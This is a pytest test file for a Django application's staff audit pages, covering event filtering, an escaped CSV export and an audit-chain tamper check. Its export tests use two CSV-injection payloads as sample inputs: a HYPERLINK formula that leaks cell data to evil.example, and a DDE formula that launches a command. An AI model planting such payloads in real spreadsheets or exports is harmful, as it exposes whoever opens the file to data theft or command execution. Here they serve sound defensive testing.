"""The staff audit pages: the filtered list, the CSV export and the chain check."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from linking.audit import export
from linking.audit.export import COLUMNS, csv_cell
from linking.audit.models import AuditEvent
from linking.audit.services import audit_event_record
from tests.audit.tampering import tamper

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'


def record(action: str = "link.created", *, actor=None, actor_label: str = "parent", **fields) -> AuditEvent:
    with transaction.atomic():
        return audit_event_record(
            action=action, actor=actor, actor_label=actor_label, subject=fields.pop("subject", {}), **fields
        )


def shown(response) -> list[int]:
    return [event.pk for event, _ in response.context["rows"]]


def audit_page(persona, status: int = 200, **filters):
    response = persona.client.get(reverse("staff_audit"), filters)
    assert response.status_code == status
    return response


def exported(response) -> list[dict]:
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def family_events(parent_a, student):
    """Events about parent_a's held request, a link to ``student`` and a staff action."""
    request = parent_a.own["request"]
    submitted = record(
        "link_request.submitted",
        actor=parent_a.user,
        subject={"link_request": str(request.pk), "parent": parent_a.parent.pk},
        personal={"parent_name": "Maria Garcia"},
    )
    linked = record(
        "link.created",
        actor=parent_a.user,
        outcome="linked",
        subject={"link_request": str(request.pk), "parent": parent_a.parent.pk, "student": student.student.pk},
        canvas_calls=[
            {"method": "POST", "path": "/api/v1/users/7/observees", "status": 200, "outcome": "ok"},
            {"method": "GET", "path": "/api/v1/users/7/observees", "status": 200},
        ],
    )
    removed = record("link.removed", actor_label="staff", outcome="already_gone", subject={"student": 999})
    return {"submitted": submitted, "linked": linked, "removed": removed}


# -- the list -------------------------------------------------------------------------------------
def test_it_lists_events_newest_first_with_the_actors_email(staff, family_events):
    response = audit_page(staff)

    ids = shown(response)
    assert ids == sorted(ids, reverse=True)
    assert {event.pk for event in family_events.values()} <= set(ids)
    assert "maria.garcia@example.com" in response.content.decode()


def test_it_narrows_by_action_or_action_prefix(staff, family_events):
    assert shown(audit_page(staff, action="link.created")) == [family_events["linked"].pk]
    assert shown(audit_page(staff, action="link.")) == [family_events["removed"].pk, family_events["linked"].pk]


def test_the_action_filter_offers_each_recorded_action_once_in_order(staff, family_events):
    record("link.created", actor_label="system")  # a second of one action

    choices = dict(audit_page(staff).context["form"].fields["action"].choices)
    actions = [value for value, _ in choices["Action"]]
    assert actions == sorted(set(AuditEvent.objects.values_list("action", flat=True)))
    assert {"link.created", "link.removed", "link_request.submitted"} <= set(actions)
    assert [value for value, _ in choices["Every action starting with"]] == sorted(
        {action.rsplit(".", 1)[0] + "." for action in actions}
    )


def test_it_narrows_by_actor_and_outcome(staff, family_events):
    assert shown(audit_page(staff, actor_label="parent")) == [family_events["linked"].pk, family_events["submitted"].pk]
    assert shown(audit_page(staff, outcome="already_gone")) == [family_events["removed"].pk]


def test_it_narrows_by_subject_id(staff, parent_a, student, family_events):
    request_id = str(parent_a.own["request"].pk)
    both = [family_events["linked"].pk, family_events["submitted"].pk]
    assert shown(audit_page(staff, subject=request_id)) == both
    assert shown(audit_page(staff, subject=parent_a.parent.pk, subject_key="parent")) == both
    assert shown(audit_page(staff, subject=student.student.pk, subject_key="student")) == [family_events["linked"].pk]
    assert shown(audit_page(staff, subject="999")) == [family_events["removed"].pk]
    assert shown(audit_page(staff, subject="999", subject_key="student")) == [family_events["removed"].pk]
    assert shown(audit_page(staff, subject="999", subject_key="parent")) == []


def test_it_narrows_by_date_range(staff, family_events):
    today = timezone.localdate()
    assert len(shown(audit_page(staff, date_from=today, date_to=today))) >= 3
    assert shown(audit_page(staff, date_to=today - timedelta(days=1))) == []
    assert shown(audit_page(staff, date_from=today + timedelta(days=1))) == []


def test_it_explains_filters_it_cannot_use(staff, family_events):
    response = audit_page(staff, 400, subject="not an id", outcome="Not Valid!")
    assert shown(response) == []
    assert set(response.context["form"].errors) == {"subject", "outcome"}


def test_it_links_a_request_to_its_staff_page_and_shows_canvas_calls(staff, parent_a, family_events):
    content = audit_page(staff, action="link.created").content.decode()
    assert f'href="{reverse("staff_request_detail", args=[parent_a.own["request"].pk])}"' in content
    assert "<summary>2</summary>" in content
    assert "POST /api/v1/users/7/observees" in content


def test_the_list_takes_as_many_queries_for_a_full_page_as_for_a_few_events(staff, django_assert_max_num_queries):
    users = get_user_model()

    def actors(count: int, start: int):
        return [
            users.objects.create_user(username=f"actor{start + n}", email=f"a{start + n}@x.test") for n in range(count)
        ]

    for user in actors(3, 0):
        record(actor=user, subject={"parent": user.pk})
    with CaptureQueriesContext(connection) as few:
        audit_page(staff)
    for user in actors(60, 100):
        record(actor=user, subject={"parent": user.pk}, canvas_calls=[{"method": "GET", "path": "/api/v1/x"}])
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = audit_page(staff, page=2)
    assert len(shown(response)) > 0


def test_it_shows_the_last_check_of_the_chain(staff):
    content = audit_page(staff).content.decode()
    assert "The chain has not been checked yet." in content


@pytest.mark.parametrize("persona", ["parent_a", "student"])
def test_it_is_for_staff_only(personas, persona):
    assert personas[persona].client.get(reverse("staff_audit")).status_code == 403


# -- the export -----------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ok", "", "1", "{}", "Maria = Garcia", None])
def test_any_other_cell_is_left_as_it_is(value):
    assert csv_cell(value) == ("" if value is None else value)


def test_it_exports_every_column_and_no_cell_a_spreadsheet_would_run(staff, parent_a):
    event = record(actor=parent_a.user, subject={"parent": parent_a.parent.pk}, personal={"parent_name": EVIL})

    rows = exported(staff.client.get(reverse("staff_audit_export")))

    assert tuple(rows[0]) == COLUMNS
    [row] = [row for row in rows if row["id"] == str(event.pk)]
    assert json.loads(row["personal"])["parent_name"] == EVIL
    assert json.loads(row["subject"]) == {"parent": parent_a.parent.pk}
    assert (row["hash"], row["prev_hash"], row["action"]) == (event.hash, event.prev_hash, "link.created")
    assert (row["actor_id"], row["actor_label"]) == (str(parent_a.user.pk), "parent")
    for exported_row in rows:
        for cell in exported_row.values():
            assert not cell.startswith(export.FORMULA_TRIGGERS), cell


def test_it_quotes_a_formula_in_any_column(staff, parent_a):
    # Action, outcome and labels are validated words and JSON cells start with { or [, so make one by hand.
    event = record(actor=parent_a.user, subject={"parent": parent_a.parent.pk})
    formula = "=cmd|' /C calc'!A0"
    tamper("UPDATE audit_auditevent SET outcome = %s WHERE id = %s", [formula, event.pk])

    rows = exported(staff.client.get(reverse("staff_audit_export")))

    [row] = [row for row in rows if row["id"] == str(event.pk)]
    assert row["outcome"] == "'" + formula


def test_it_exports_the_filtered_events_in_chunks(staff, family_events, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)
    for number in range(5):
        record("link.removed", actor_label="staff", subject={"student": number})

    rows = exported(staff.client.get(reverse("staff_audit_export"), {"action": "link."}))

    ids = [int(row["id"]) for row in rows]
    assert ids == sorted(ids)
    assert len(ids) == 7
    assert {row["action"] for row in rows} == {"link.created", "link.removed"}


def test_the_export_is_audited_with_its_filters(staff, family_events):
    response = staff.client.get(reverse("staff_audit_export"), {"action": "link.", "outcome": "linked"})
    rows = exported(response)

    export_event = AuditEvent.objects.filter(action="audit.exported").get()
    assert (export_event.actor_id, export_event.actor_label) == (staff.user.pk, "staff")
    assert export_event.data["filters"] == {"action": "link.", "outcome": "linked"}
    assert export_event.data["up_to_id"] == export_event.pk - 1
    assert [row["id"] for row in rows] == [str(family_events["linked"].pk)]


def test_it_refuses_to_export_with_invalid_filters(staff):
    assert staff.client.get(reverse("staff_audit_export"), {"date_from": "yesterday"}).status_code == 400
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


@pytest.mark.parametrize("persona", ["parent_a", "parent_b", "student"])
def test_the_export_is_for_staff_only(personas, persona):
    response = personas[persona].client.get(reverse("staff_audit_export"))
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_the_export_sends_a_visitor_to_sign_in(anonymous):
    response = anonymous.client.get(reverse("staff_audit_export"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


# -- the chain check ------------------------------------------------------------------------------
def test_checking_an_intact_chain_says_ok_with_the_count(staff, family_events):
    count = AuditEvent.objects.count()

    response = staff.client.post(reverse("staff_audit_verify"), follow=True)

    assert response.redirect_chain == [(reverse("staff_audit"), 302)]
    content = response.content.decode()
    assert f"Audit chain OK: {count} events checked." in content
    assert f"OK, {count} events." in content
    check = AuditEvent.objects.get(action="audit.verified")
    assert (check.actor_id, check.outcome, check.data["checked"]) == (staff.user.pk, "ok", count)


def test_checking_a_tampered_chain_names_the_first_broken_event(staff, family_events):
    broken = family_events["linked"]
    tamper("UPDATE audit_auditevent SET outcome = 'failed' WHERE id = %s", [broken.pk])

    response = staff.client.post(reverse("staff_audit_verify"), follow=True)

    content = response.content.decode()
    assert f"Audit chain BROKEN at event {broken.pk}: its contents do not match its hash (edited)." in content
    assert f"BROKEN at event {broken.pk}" in content.split('id="last-check"')[1]
    check = AuditEvent.objects.get(action="audit.verified")
    assert (check.outcome, check.data["first_broken_id"]) == ("broken", broken.pk)


def test_the_check_is_a_post(staff):
    assert staff.client.get(reverse("staff_audit_verify")).status_code == 405


def test_the_check_is_for_staff_only(parent_a):
    assert parent_a.client.post(reverse("staff_audit_verify")).status_code == 403
    assert not AuditEvent.objects.filter(action="audit.verified").exists()
